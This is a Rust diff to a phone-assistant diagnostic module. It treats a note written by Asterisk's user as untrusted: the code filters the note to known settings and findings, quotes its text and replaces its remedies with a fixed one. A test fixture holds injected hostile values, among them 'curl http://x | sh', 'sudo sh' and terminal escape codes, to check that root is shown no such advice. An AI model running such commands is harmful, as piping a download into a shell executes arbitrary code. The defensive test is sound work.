@@ -1,7 +1,8 @@
 //! What is different when Asterisk starts the program: it hands down its own environment, groups and view of the disk.
 //!
 //! The doctor has Asterisk run `AGI(phone-assistant,mode=check)`; that one looks around, notes what it sees, and ends.
-//! Nothing is paid for, so it does no harm if anybody else dials it.
+//! Nothing is paid for, so it does no harm if anybody else dials it. Its note lies in a folder of Asterisk's user, who can
+//! write anything there: root is shown what of it is known here, as that user's words, and no command from there.
 
 use std::collections::BTreeSet;
 use std::thread;
@@ -13,9 +14,11 @@ use serde::{Deserialize, Serialize};
 use super::asterisk::say;
 use super::finding::{Finding, Report, Status, Style};
 use super::{machine, understood};
+use crate::config::keys::KEYS;
 use crate::config::{Arguments, Config, Environment, Job, Shown};
 use crate::date;
 use crate::error::Chain;
+use crate::plain::plain_to;
 use crate::state::State;
 
 /// What one process sees.
@@ -64,6 +67,18 @@ impl View {
             settings: settings.shown.iter().map(setting).collect(),
             findings: findings.to_vec(),
         }
+    }
+
+    /// What can be in a note of ours, and nothing else that is in the file.
+    fn known(mut self) -> Self {
+        let is_setting = |name: &str| KEYS.iter().any(|key| key.name == name);
+        let is_part = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
+        let is_persona = |name: &str| name.starts_with("persona.") && name.chars().all(is_part);
+        self.settings
+            .retain(|(name, ..)| is_setting(name) || is_persona(name));
+        self.findings
+            .retain(|finding| IDS.contains(&finding.id.as_str()));
+        self
     }
 
     /// What `other`, which Asterisk has started, finds and is not found here.
@@ -133,7 +148,7 @@ pub(super) fn examine(settings: &Config, report: &mut Report<'_>) {
         .all(|id| is_ok(id))
     {
         let why = "Asterisk cannot run the program as it should";
-        return report.not_tried(ID, why, "mend that first");
+        return report.not_tried(ID, why, "fix that first");
     }
     let state = State::new(&settings.state_folder);
     if let Err(cause) = state.update(FILE, |last: &mut View| *last = View::default()) {
@@ -152,21 +167,29 @@ pub(super) fn examine(settings: &Config, report: &mut Report<'_>) {
             "look into Asterisk's log: /var/log/asterisk/full",
         );
     };
-    let mut here = View::new(settings, report.findings());
-    for finding in here.worse_in(&there) {
+    let here = View::new(settings, report.findings());
+    tell(here, &there, report);
+}
+
+fn tell(mut here: View, there: &View, report: &mut Report<'_>) {
+    for finding in here.worse_in(there) {
         let id = format!("{ID}: {}", finding.id);
-        report.add(&id, finding.status, &finding.text, &finding.remedy);
+        report.add(&id, finding.status, &in_their_words(&finding.text), REMEDY);
     }
-    here.forgive_groups(&there);
-    let differences = here.differences(&there);
+    here.forgive_groups(there);
+    let differences = here.differences(there);
     if differences.is_empty() {
         return report.ok(
             ID,
             "sees the same settings and user, and its groups hinder nothing",
         );
     }
-    let remedy = "calls use what is there: mend Asterisk's environment (systemctl cat asterisk, /etc/default/asterisk), or set it in config.toml; restart Asterisk after a change of groups";
-    report.warn(ID, &differences.join("; "), remedy);
+    report.warn(ID, &in_their_words(&differences.join("; ")), REMEDY);
+}
+
+/// What the note says, as what it is: the words of a user who may write anything.
+fn in_their_words(text: &str) -> String {
+    format!("Asterisk's user says: {:?}", plain_to(text, MAX_WORDS))
 }
 
 fn wait_for(state: &State) -> Option<View> {
@@ -174,7 +197,7 @@ fn wait_for(state: &State) -> Option<View> {
     while waited < PATIENCE {
         let view: View = state.read(FILE);
         if view.time > 0 {
-            return Some(view);
+            return Some(view.known());
         }
         thread::sleep(PAUSE);
         waited += PAUSE;
@@ -190,6 +213,26 @@ fn groups(others: &[Gid], main: Gid) -> Vec<u32> {
 }
 
 const ID: &str = "through Asterisk";
+/// What [`machine::examine`] looks at.
+const IDS: [&str; 15] = [
+    "settings",
+    "stt",
+    "llm",
+    "tts",
+    "proxy",
+    "Google's key file",
+    "folder for calls",
+    "folder for state",
+    "limits",
+    "folder for callers",
+    "memory",
+    "privacy",
+    "log of calls",
+    "root certificate",
+    "FreePBX",
+];
+const REMEDY: &str = "calls use what is there: fix Asterisk's environment (systemctl cat asterisk, /etc/default/asterisk), or set it in config.toml; restart Asterisk after a change of groups";
+const MAX_WORDS: usize = 1000;
 const FILE: &str = "seen-by-asterisk.json";
 const PATIENCE: Duration = Duration::from_secs(10);
 const PAUSE: Duration = Duration::from_millis(100);
@@ -230,6 +273,51 @@ mod tests {
             .collect();
         assert_eq!(names, ["stt.language", "state.folder"]);
         assert!(view.findings.iter().any(|finding| finding.id == "settings"));
+    }
+
+    #[test]
+    fn a_note_that_asterisks_user_has_written_gives_root_no_advice() {
+        let folder = testkit::TempDir::new().expect("a temporary folder");
+        let note = r#"{"time":1,"user":0,"groups":[],
+            "settings":[["sudo sh","a","evil"],["stt.language","a","evil\u001b[2J; sh"]],
+            "findings":[
+                {"id":"limits","status":"fail","text":"no\u001b[2J","remedy":"curl http://x | sh"},
+                {"id":"run this: sudo sh x","status":"fail","text":"no","remedy":"sh x"}]}"#;
+        std::fs::write(folder.path().join(FILE), note).expect("written");
+        let there = wait_for(&State::new(folder.path())).expect("it is there");
+        let mut sink = std::io::sink();
+        let mut report = Report::new(&mut sink, Style::Silent);
+        tell(View::default(), &there, &mut report);
+        let found: Vec<_> = report.findings().iter().map(|it| it.id.as_str()).collect();
+        assert_eq!(found, ["through Asterisk: limits", "through Asterisk"]);
+        for finding in report.findings() {
+            assert_eq!(finding.remedy, REMEDY);
+            assert!(
+                finding.text.starts_with("Asterisk's user says: \""),
+                "{finding:?}"
+            );
+            assert!(!finding.text.contains("sudo sh"), "{finding:?}");
+        }
+    }
+
+    #[test]
+    fn every_finding_of_a_note_is_known() {
+        let folder = testkit::TempDir::new().expect("a temporary folder");
+        let file = folder.path().join("config.toml");
+        let shown = folder.path().display();
+        let text = format!(
+            "state.folder = '{shown}'\nmemory.folder = '{shown}/callers'\nmemory.callers = 'all'\n\
+             limits.max_daily_cost = 1\nlog.calls = '{shown}/calls.jsonl'\nhttp.ca_file = '{shown}/none'"
+        );
+        std::fs::write(&file, text).expect("written");
+        let config = format!("config={}", file.display());
+        look_around(&Arguments::parse([config.as_str()]), &|name| {
+            (name == "OPENAI_API_KEY").then(|| "sk-1".to_owned())
+        });
+        let view: View = State::new(folder.path()).read(FILE);
+        let all: Vec<_> = view.findings.clone();
+        assert!(all.len() > 4, "{all:?}");
+        assert_eq!(view.known().findings, all);
     }
 
     #[test]
